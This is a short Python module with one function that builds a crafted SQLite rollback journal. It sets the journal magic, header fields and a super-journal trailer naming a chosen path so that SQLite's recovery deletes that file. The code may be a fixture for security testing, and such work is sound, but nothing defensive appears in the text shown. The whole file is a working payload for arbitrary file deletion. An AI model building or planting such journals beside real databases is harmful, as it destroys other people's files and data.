"""What somebody may lay beside an SQLite file."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512


def deletes(file: Path) -> bytes:
    """A journal that makes SQLite delete a file: it names it as the journal over several databases."""
    name = str(file).encode()
    head = MAGIC + b"".join(number.to_bytes(4, "big") for number in (0, 0, 2, SECTOR, 4096))
    locks = (2**30 // 4096 + 1).to_bytes(4, "big")
    named = name + len(name).to_bytes(4, "big") + sum(name).to_bytes(4, "big") + MAGIC
    return head.ljust(SECTOR, b"\0") + locks + named
